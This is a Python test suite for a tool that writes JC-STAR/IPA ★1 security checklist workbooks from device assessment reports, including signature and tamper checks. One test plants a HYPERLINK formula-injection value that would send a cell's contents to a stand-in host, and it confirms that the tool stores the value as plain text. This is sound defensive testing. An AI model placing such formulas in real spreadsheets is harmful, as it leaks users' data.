"""checklist: the IPA ★1 workbook, opened with openpyxl and read cell by cell."""
import hashlib
import json
import os
import shutil
import sys

import pytest

from jcstar_agent.criteria import IDS, catalogue
from jcstar_agent.report import render

from evidence_sample import VERDICTS, report

openpyxl = pytest.importorskip("openpyxl")

RESULT = {"pass": "適合", "fail": "非適合", "na": "該当なし", "manual": "要確認", "error": "エラー"}
CONFIG = """\
[product]
vendor = "Acme Corp"
model = "ACME-GW-100"
conformity_certification = "AB20-0123456"
psti_compliant = false
"""


def _cells(path):
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["基本情報", "チェックリスト"]
    info = {r[0]: (r[1] or "") for r in wb["基本情報"].iter_rows(min_row=2, values_only=True)}
    rows = [tuple("" if v is None else v for v in r) for r in wb["チェックリスト"].iter_rows(values_only=True)]
    return info, rows


def _report_file(tmp_path, mutate=None):
    cfg = tmp_path / "board.toml"
    cfg.write_text(CONFIG, encoding="utf-8")
    d = json.loads(render(report(), "json"))
    d["config"] = {"path": "/nonexistent/board.toml", "sha256": hashlib.sha256(cfg.read_bytes()).hexdigest()}
    if mutate:
        mutate(d)
    path = tmp_path / "gw.json"
    path.write_text(json.dumps(d, ensure_ascii=False), encoding="utf-8")
    return path, cfg


def test_unsigned_report_every_promised_cell(tmp_path, cli):
    src, cfg = _report_file(tmp_path)
    out = tmp_path / "checklist.xlsx"
    res = cli("checklist", str(src), "--config", str(cfg), "--output", str(out), "--product-name", "Acme Gateway")
    assert res.rc == 0, res.err
    assert res.err.strip().startswith(f"{out}: checklist written from an unsigned report"), res.err
    info, rows = _cells(out)
    digest = hashlib.sha256(src.read_bytes()).hexdigest()
    assert info["製造事業者名 (vendor)"] == "Acme Corp"
    assert info["製品名 (product)"] == "Acme Gateway"
    assert info["型番 (model)"] == "ACME-GW-100"
    assert info["ファームウェアバージョン (firmware version)"] == "1.0"
    assert info["電気通信事業法に基づく技術基準適合認定番号等 ([T]/[A])"] == "AB20-0123456"
    assert info["UK PSTI"].startswith("非該当")
    assert info["評価ツール (agent)"] == "jcstar-agent 9.9.9"
    assert info["評価日 (date)"] == "2026年11月26日"  # 2026-11-26T00:00:00+00:00, in JST
    assert info["証跡ダイジェスト (attestation digest)"] == f"sha256:{digest} (report)"
    assert info["署名鍵 keyid"] == "unsigned（署名なし）"
    assert rows[0] == ("ID", "セキュリティ要件", "適合基準", "評価手法", "評価結果", "根拠",
                       "NA であることの理由", "証跡")
    assert [r[0] for r in rows[1:]] == list(IDS)
    with open(os.path.join(os.path.dirname(catalogue.__file__), "catalogue.json"), encoding="utf-8") as fh:
        requirement = {c["id"]: c["requirement_ja"] for c in json.load(fh)["criteria"]}
    methods = {}
    for (cid, title_ja, req, method, result, basis, na_reason, proof) in rows[1:]:
        verdict = VERDICTS.get(cid)
        verdict = verdict.value if verdict else "pass"
        assert title_ja == catalogue.get(cid).title_ja
        assert req == requirement[cid] and req
        methods[cid] = method
        assert result == RESULT[verdict], cid
        assert na_reason == (f"reason for {cid}" if verdict == "na" else ""), cid
        assert basis.startswith(f"reason for {cid}")
        assert proof.startswith(f"report (unsigned) sha256:{digest}")
    # D document evaluation, T device test, as the original assigns them
    assert methods["S1.1-01"] == "D" and methods["S1.1-04"] == "T" and methods["S1.1-13"] == "D + T"
    s01 = rows[1]
    assert "[AUTH-EMPTY-PASSWORD] (critical) account 'pi' has an empty password" in s01[5]
    # the evidence reference: the digest, then the ids of the findings behind the verdict
    assert s01[7].splitlines()[1] == "所見 (findings) S1.1-01: AUTH-EMPTY-PASSWORD, AUTH-HOSTILE, AUTH-RAW"


def test_manual_error_and_unknown_verdicts_are_never_conformant(tmp_path, cli):
    def mutate(d):
        d["criteria"][4]["verdict"] = "bogus"      # S1.1-05: a verdict the workbook does not know
        del d["criteria"][15]                      # S1.1-16 missing from the report
    src, cfg = _report_file(tmp_path, mutate)
    out = tmp_path / "c.xlsx"
    assert cli("checklist", str(src), "--output", str(out)).rc == 0
    _, rows = _cells(out)
    results = {r[0]: r[4] for r in rows[1:]}
    assert results["S1.1-02"] == "エラー" and results["S1.1-04"] == "要確認"
    assert results["S1.1-05"] == "エラー" and results["S1.1-16"] == "エラー"
    assert "missing from the report" in rows[16][5]
    assert sum(1 for v in results.values() if v == "適合") == 16 - 6 - 2  # only real passes


def test_config_of_another_report_is_refused(tmp_path, cli):
    src, cfg = _report_file(tmp_path)
    cfg.write_text(CONFIG.replace("Acme Corp", "Other"), encoding="utf-8")
    res = cli("checklist", str(src), "--config", str(cfg), "--output", str(tmp_path / "c.xlsx"))
    assert res.rc == 2 and "not the board config this report was made with" in res.err
    assert not (tmp_path / "c.xlsx").exists()


def test_signed_envelope_digest_and_keyid(tree, tmp_path, cli):
    from cryptography.hazmat.primitives import serialization

    key = tmp_path / "k.key"
    assert cli("keygen", "--out", str(key)).rc == 0
    env = tmp_path / "unit1.json"
    assert cli("attest", "--root", tree(), "--key", str(key), "--output", str(env)).rc in (0, 1)
    pub = serialization.load_pem_public_key((tmp_path / "k.key.pub").read_bytes())
    keyid = hashlib.sha256(pub.public_bytes(serialization.Encoding.DER,
                                            serialization.PublicFormat.SubjectPublicKeyInfo)).hexdigest()
    out = tmp_path / "c.xlsx"
    res = cli("checklist", str(env), "--pubkey", str(tmp_path / "k.key.pub"), "--output", str(out))
    assert res.rc == 0, res.err
    # the one stderr line says what was written, from what (it was "c.xlsx: signed")
    assert res.err.strip().startswith(f"{out}: checklist written from a verified attestation"), res.err
    info, rows = _cells(out)
    digest = hashlib.sha256(env.read_bytes()).hexdigest()
    assert info["証跡ダイジェスト (attestation digest)"] == f"sha256:{digest} (DSSE envelope, signature verified)"
    assert info["署名鍵 keyid"] == keyid
    assert info["ファームウェアバージョン (firmware version)"] == "1.2.3"
    assert all(r[7].startswith(f"attestation sha256:{digest}") for r in rows[1:])
    # tampered: exit 1, no workbook
    doc = json.loads(env.read_text())
    doc["payload"] = doc["payload"][:-8] + ("A" * 8 if doc["payload"][-8:] != "A" * 8 else "B" * 8)
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps(doc))
    res = cli("checklist", str(bad), "--pubkey", str(tmp_path / "k.key.pub"), "--output", str(tmp_path / "b.xlsx"))
    assert res.rc == 1 and "INVALID" in res.err and not (tmp_path / "b.xlsx").exists()
    # an envelope without --pubkey is not read as unsigned evidence
    res = cli("checklist", str(env), "--output", str(tmp_path / "n.xlsx"))
    assert res.rc == 2 and "--pubkey" in res.err


def test_several_reports_one_workbook_each(tmp_path, cli):
    src, _ = _report_file(tmp_path)
    other = tmp_path / "variant-b.json"
    d = json.loads(src.read_text())
    d["target"]["firmware_version"] = "2.0"
    other.write_text(json.dumps(d))
    res = cli("checklist", str(src), str(other), "--output", str(tmp_path / "x.xlsx"))
    assert res.rc == 2 and "--output-dir" in res.err
    outdir = tmp_path / "out"
    outdir.mkdir()
    assert cli("checklist", str(src), str(other), "--output-dir", str(outdir)).rc == 0
    assert sorted(os.listdir(outdir)) == ["gw.xlsx", "variant-b.xlsx"]
    assert _cells(outdir / "variant-b.xlsx")[0]["ファームウェアバージョン (firmware version)"] == "2.0"


def test_missing_openpyxl_names_the_install_line(tmp_path, cli, monkeypatch):
    src, _ = _report_file(tmp_path)
    monkeypatch.setitem(sys.modules, "openpyxl", None)
    res = cli("checklist", str(src), "--output", str(tmp_path / "c.xlsx"))
    assert res.rc == 2
    from jcstar_agent.install_hint import hint

    # the line for how this agent is installed: from this checkout, the checkout's extra
    assert res.err.strip().count("\n") == 0 and hint("checklist") in res.err and "[checklist]'" in res.err


def test_text_that_looks_like_a_formula_stays_text(tmp_path, cli):
    evil = '=HYPERLINK("http://example.invalid/?"&A1,"click")'

    def mutate(d):
        d["criteria"][0]["reason"] = evil
    src, _ = _report_file(tmp_path, mutate)
    out = tmp_path / "c.xlsx"
    assert cli("checklist", str(src), "--output", str(out), "--product-name", evil).rc == 0
    import zipfile

    with zipfile.ZipFile(out) as z:  # the stored XML: a formula would be an <f> element
        sheets = [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert len(sheets) == 2 and not [x for x in sheets if "<f>" in x or "<f " in x]
    wb = openpyxl.load_workbook(out)
    looks = [c for ws in wb for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith("=")]
    assert len(looks) == 2 and all(c.data_type == "s" for c in looks)
    info, rows = _cells(out)
    assert info["製品名 (product)"] == evil and rows[1][5].startswith(evil)


def test_uncovered_item_in_the_catalogues_japanese(tmp_path, cli):
    def mutate(d):
        d["criteria"][4]["verdict"] = "fail"
        d["criteria"][4]["findings"] = [{"check": "DOC-ITEM-UNCOVERED", "severity": "medium",
                                         "message": "S1.1-05 item 2 (process after receipt) is covered by no declared document",
                                         "evidence": {"criterion": "S1.1-05", "item": "2"}}]
    src, _ = _report_file(tmp_path, mutate)
    out = tmp_path / "c.xlsx"
    assert cli("checklist", str(src), "--output", str(out)).rc == 0
    _, rows = _cells(out)
    assert rows[5][0] == "S1.1-05" and rows[5][4] == "非適合"
    assert "[DOC-ITEM-UNCOVERED] (medium) S1.1-05 item 2" in rows[5][5]
    assert "「" + catalogue.get("S1.1-05").item("2").ja + "」" in rows[5][5]


def _corpus_like(tmp_path):
    """A report with the long reasons and many findings of a real image (one page is not enough)."""
    def mutate(d):
        c = d["criteria"][0]
        c["reason"] = ("no erase mechanism declared: add [erase] command (and data_paths, "
                       "settings_paths, credential_paths) to the board config")
        c["findings"] = [{"check": "SURFACE-UNDECLARED-LISTENER", "severity": "high",
                          "message": f"tcp port {p} (http, nginx) listens on * but is not declared in [[listeners]] "
                                     f"(/etc/nginx/sites-enabled/default:{p} (started by /etc/systemd/system/"
                                     "multi-user.target.wants/nginx.service))",
                          "evidence": {"proto": "tcp", "port": p}} for p in range(8000, 8012)]
    return _report_file(tmp_path, mutate)


def test_workbook_prints_a4_landscape_fit_to_width_header_repeated(tmp_path, cli):
    from jcstar_agent.checklist import HEADER, LINE_POINTS, WIDTHS, row_lines

    src, _ = _corpus_like(tmp_path)
    out = tmp_path / "c.xlsx"
    assert cli("checklist", str(src), "--output", str(out), "--lang", "ja").rc == 0
    wb = openpyxl.load_workbook(out)
    for ws in wb:
        ps = ws.page_setup
        assert ps.orientation == "landscape" and int(ps.paperSize) == 9  # A4
        assert ws.sheet_properties.pageSetUpPr.fitToPage is True
        assert int(ps.fitToWidth) == 1 and int(ps.fitToHeight) == 0  # one page wide, as long as it takes
        assert ws.print_title_rows.replace("$", "") == "1:1"  # the header row on every printed page
        assert "2026年11月26日" in ws.oddHeader.center.text
        widths = [ws.column_dimensions[chr(65 + i)].width for i in range(ws.max_column)]
        for r, row in enumerate(ws.iter_rows(), 1):
            assert all(c.alignment.wrap_text for c in row)
            need = row_lines([c.value for c in row], widths) * LINE_POINTS
            assert ws.row_dimensions[r].height >= need, (ws.title, r)
    cl = wb["チェックリスト"]
    assert tuple(c.value for c in cl[1]) == HEADER and tuple(WIDTHS) == tuple(
        cl.column_dimensions[chr(65 + i)].width for i in range(len(HEADER)))
    # the reason in Japanese (--lang ja), the finding messages too
    basis = cl["F2"].value
    assert basis.startswith("消去機構の宣言なし。") and "tcp ポート 8000（http、nginx）が * で待受" in basis
    assert row_lines([basis], [60]) >= 12 and cl.row_dimensions[2].height > 12 * LINE_POINTS


@pytest.mark.skipif(not shutil.which("soffice") or not shutil.which("pdftotext"),
                    reason="visual check: needs LibreOffice (libreoffice-calc-nogui) and poppler-utils")
def test_libreoffice_prints_every_row_with_the_header_on_each_page(tmp_path, cli):
    # the workbook as LibreOffice prints it: several A4 landscape pages, the header on each, every
    # criterion and the last line of the tallest cell there (rows tall enough: nothing cut off)
    import subprocess

    src, _ = _corpus_like(tmp_path)
    out = tmp_path / "c.xlsx"
    assert cli("checklist", str(src), "--output", str(out), "--lang", "ja").rc == 0
    env = dict(os.environ, HOME=str(tmp_path))
    p = subprocess.run(["soffice", "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), str(out)],
                       capture_output=True, text=True, timeout=300, env=env)
    pdf = tmp_path / "c.pdf"
    assert p.returncode == 0 and pdf.exists(), p.stderr
    info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True).stdout
    import re

    w, h = (float(x) for x in re.search(r"Page size:\s+([\d.]+) x ([\d.]+) pts", info).groups())
    assert abs(w - 841.9) < 2 and abs(h - 595.3) < 2  # A4 landscape, in points
    pages = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True,
                           text=True).stdout.split("\f")
    pages = [pg for pg in pages if pg.strip()]
    sheet = [pg for pg in pages if "評価結果" in pg]
    assert len(sheet) >= 2 and all("セキュリティ要件" in pg and "根拠" in pg for pg in sheet)
    text = "".join(sheet)
    assert all(cid in text for cid in IDS)
    assert "8011" in text  # the last finding of the tallest cell is printed, not cut off
